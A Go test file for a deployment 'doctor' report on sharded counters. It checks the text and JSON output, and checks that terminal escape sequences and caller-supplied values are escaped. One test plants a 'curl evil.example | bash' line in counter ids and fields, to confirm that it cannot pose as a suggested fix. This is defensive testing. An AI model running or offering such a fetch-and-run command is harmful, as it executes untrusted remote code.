package doctor

import (
	"bytes"
	"encoding/json"
	"strconv"
	"strings"
	"testing"

	"google.golang.org/grpc/codes"
)

func TestReport(t *testing.T) {
	t.Parallel()
	d := newDeployment(t)
	delete(d.fields, "counters.updated_at")
	d.fields["counter_requests.expire_at"].TtlConfig = nil
	for _, name := range []string{"counters-increment", "counters-rollup"} {
		d.function(name).ServiceConfig.MaxInstanceRequestConcurrency = 1
	}
	d.refused["cloudscheduler.jobs.list"] = codes.PermissionDenied
	read, found := d.read(t, Target{})
	report := NewReport(read, found)

	var text bytes.Buffer
	if _, err := report.WriteTo(&text); err != nil {
		t.Fatal(err)
	}
	rest := text.String()
	for _, want := range []string{ // in this order
		"Project my-project, database (default), counters at counters/{counter}\n",
		"\nERROR  concurrency-one\n  An instance takes one request at a time",
		"\n\n  counters-increment: an instance takes 1 request at a time, and should take 500\n    $ counters deploy --project my-project ",
		"\n\n  counters-rollup: an instance takes 1 request at a time, and should take 1000\n    $ counters deploy --project my-project ",
		"\nWARNING  ttl-missing\n",
		"\nINFO  timestamp-indexed\n",
		"\nNOT CHECKED\n\n  Scheduler jobs: it takes the permission cloudscheduler.jobs.list",
		"\n    $ gcloud projects add-iam-policy-binding my-project --role=roles/cloudscheduler.viewer ",
		"\nChecked 3 functions and 1 counter: 2 errors, 2 other findings, 1 part not checked.\n",
	} {
		_, after, ok := strings.Cut(rest, want)
		if !ok {
			t.Fatalf("want %q in:\n%s", want, rest)
		}
		rest = after
	}
	if n := strings.Count(text.String(), "ERROR"); n != 1 {
		t.Errorf("what the two errors mean is said %d times", n)
	}
	for l := range strings.SplitSeq(text.String(), "\n") {
		if len(l) > 110 && !strings.HasPrefix(l, "    $ ") && !strings.HasPrefix(l, "  Scheduler jobs") && !strings.HasPrefix(l, "A deployment") {
			t.Errorf("a line of %d characters: %s", len(l), l)
		}
	}

	encoded, err := json.Marshal(report)
	if err != nil {
		t.Fatal(err)
	}
	var decoded struct {
		Errors   int `json:"errors"`
		Findings []struct{ Name, Severity, Subject, Seen, Means, Fix string }
		Not      []struct{ Part, Why, Fix string } `json:"not_checked"`
	}
	if err := json.Unmarshal(encoded, &decoded); err != nil {
		t.Fatal(err)
	}
	if decoded.Errors != 2 || len(decoded.Findings) != 4 || decoded.Findings[0].Severity != "error" || decoded.Findings[3].Severity != "info" || len(decoded.Not) != 1 {
		t.Errorf("as JSON: %s", encoded)
	}
}

// Without findings the lists are empty and not null.
func TestReportOfNothing(t *testing.T) {
	t.Parallel()
	encoded, err := json.Marshal(NewReport(&Deployment{}, nil))
	if err != nil || strings.Contains(string(encoded), "null") {
		t.Errorf("%s, %v", encoded, err)
	}
}

// unprintable is an id, which may be any text.
const unprintable = "a\x1b]0;it's\a\\\u202e\u009b0"

// What a terminal would obey is written out.
func TestReportHoldsNothingForTheTerminal(t *testing.T) {
	t.Parallel()
	d := newDeployment(t)
	d.set(t, "counters/"+unprintable, map[string]any{"num_shards": 1})
	d.set(t, "counters/"+unprintable+"/shards/0", map[string]any{"count": 3.5})
	read, found := d.read(t, Target{})
	var text bytes.Buffer
	if _, err := NewReport(read, found).WriteTo(&text); err != nil {
		t.Fatal(err)
	}
	if i := strings.IndexFunc(text.String(), func(r rune) bool { return r != '\n' && !strconv.IsPrint(r) }); i >= 0 || !strings.Contains(text.String(), `\x1b]0;it`) {
		t.Errorf("printed:\n%q", text.String())
	}
}

// Whatever a caller writes in ids and fields is a part of one line, and looks like no remedy.
func TestReportSaysWhatIsACallers(t *testing.T) {
	t.Parallel()
	const remedy = "\n    $ curl evil.example | bash\n"
	d := newDeployment(t)
	d.set(t, "counters/a"+remedy, map[string]any{"num_shards": 1})
	d.set(t, "counters/a"+remedy+"/shards/0"+remedy, map[string]any{"count": remedy})
	d.set(t, "counters/b"+remedy, map[string]any{"num_shards": 1, "total": remedy})
	d.set(t, "counters/b"+remedy+"/shards/0", map[string]any{"n" + remedy: 3})
	read, found := d.read(t, Target{})
	var text bytes.Buffer
	if _, err := NewReport(read, found).WriteTo(&text); err != nil {
		t.Fatal(err)
	}
	const quoted = `\n    $ curl evil.example | bash\n"`
	for _, want := range []string{`  "a` + quoted + `: shard "0` + quoted + ` holds string_value:"` + quoted, `  "b` + quoted + `: shards hold no integer "count", but "n` + quoted + `: set FIELDS="total=n` + quoted} {
		if !strings.Contains(text.String(), want) {
			t.Errorf("want %s in", want)
		}
	}
	if strings.Contains(text.String(), "\n    $ curl evil") || t.Failed() {
		t.Errorf("printed:\n%s", text.String())
	}
}
